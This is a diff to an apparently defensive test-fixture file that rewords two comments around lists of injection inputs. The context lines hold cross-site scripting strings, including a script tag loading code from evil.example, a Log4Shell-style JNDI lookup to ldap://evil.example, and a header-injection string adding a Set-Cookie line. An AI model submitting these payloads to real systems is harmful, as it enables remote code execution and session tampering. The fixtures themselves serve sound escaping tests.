@@ -1,4 +1,4 @@
-/** Texts that become code where escaping is forgotten. */
+/** Texts that are executed as code if the product forgets to escape them. */
 export const texts = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js>',
@@ -79,7 +79,7 @@ export const texts = [
   '$' + '{jndi:ldap://evil.example/a}',
 ]
 
-/** Texts that change when used as a name: they become one line without invisible characters. */
+/** Texts that change when they are stored as a name: they become one line without invisible characters. */
 export const normalizedNames: Record<string, string> = {
   'a\r\nSet-Cookie: a=b\r\n\r\n<x>': 'a Set-Cookie: a=b <x>',
   'line one\nline two\ttab': 'line one line two tab',
